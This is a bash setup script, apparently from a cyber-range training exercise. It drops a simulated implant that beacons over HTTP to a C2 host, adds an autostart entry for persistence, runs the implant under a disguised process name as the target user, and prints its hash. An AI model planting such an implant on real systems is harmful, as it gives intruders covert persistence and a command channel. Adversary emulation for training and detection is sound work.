#!/usr/bin/env bash
# (Enshu exercise) Drops a beaconing program at a path, with an autostart entry, and starts it as the
# host's user; prints the program's SHA-256.
# Environment: OWNER, IMPLANT_PATH, PROCESS, C2, UA, ID, INTERVAL (seconds), PROXY (URL or empty).
# Run on a range host as `env NAME=value... bash -c SCRIPT`: values arrive only as environment variables.
set -e
owner="${OWNER:-root}"
mkdir -p "$(dirname "$IMPLANT_PATH")"
cat > "$IMPLANT_PATH" <<'PROGRAM'
#!/bin/bash
# (Enshu exercise) a simulated implant: it beacons to its C2 over HTTP through the proxy.
while true; do
  curl -s -o /dev/null -m 10 ${PROXY:+-x "$PROXY"} -A "$UA" "http://$C2/beacon?id=$ID" || true
  sleep "$INTERVAL"
done
PROGRAM
chmod 755 "$IMPLANT_PATH"
chown "$owner:" "$IMPLANT_PATH" 2>/dev/null || true
home=$(getent passwd "$owner" | cut -d: -f6)
if [ -n "$home" ]; then
  mkdir -p "$home/.config/autostart"
  printf '[Desktop Entry]\nType=Application\nName=%s\nExec=%s\n' "$PROCESS" "$IMPLANT_PATH" > "$home/.config/autostart/$PROCESS.desktop"
  chown -R "$owner:" "$home/.config" 2>/dev/null || true
fi
runner="$(dirname "$IMPLANT_PATH")/$PROCESS"
[ "$runner" = "$IMPLANT_PATH" ] || ln -sf "$IMPLANT_PATH" "$runner"
runuser -u "$owner" -- env PROXY="$PROXY" UA="$UA" C2="$C2" ID="$ID" INTERVAL="$INTERVAL" setsid "$runner" </dev/null >/dev/null 2>&1 &
sleep 1
pgrep -x "$PROCESS" >/dev/null
sha256sum "$IMPLANT_PATH" | cut -d' ' -f1
